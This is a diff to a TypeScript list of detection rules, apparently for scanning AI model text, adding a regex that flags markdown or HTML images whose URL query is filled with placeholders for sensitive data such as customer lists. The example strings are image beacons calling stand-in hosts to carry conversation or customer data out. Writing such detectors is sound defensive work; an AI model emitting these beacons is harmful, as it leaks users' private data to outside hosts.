@@ -162,6 +162,17 @@ export const outflowPatterns: readonly Pattern[] = [
     example: '![x](https://a.example.net/p.png?d={conversation})',
   },
   {
+    id: 'beacon-filled', rule: 'safety/beacon', grade: 'warn', source: exfil, negatable: true,
+    message: 'an image whose address is filled with what the model knows',
+    needs: ['*http*'],
+    across: true,
+    all: [
+      prose`(?:!\[[^\]\n]{0,60}\]\( ?<?|<img\b[^>\n]{0,60}\bsrc ?= ?["']?)https?:\/\/[^\s)"'?{$<]{1,100}\?[^\s)"'{]{0,80}=\{{1,2}[a-z_. -]{0,30}(?:portfolio|position|balance|account|customer|client|patient|invoice|salary|contact|address|phone|note|summary|content|input|output|query|data)`,
+    ],
+    unless: prose`\b(?:mailer|newsletter|csp|blocked)\b`,
+    example: '![chart](https://cdn.example.net/p.gif?d={{customer_list}})',
+  },
+  {
     id: 'beacon-prose', rule: 'safety/beacon', grade: 'warn', source: exfil, negatable: true,
     message: 'asks for an image or link whose address carries data out',
     needs: ['*изображени* *картинк* bild gif icon image imagem imagen img logo picture pixel 图像 图片 画像 이미지', '*адрес* *ссылк* address link query src url* 地址 链接'],
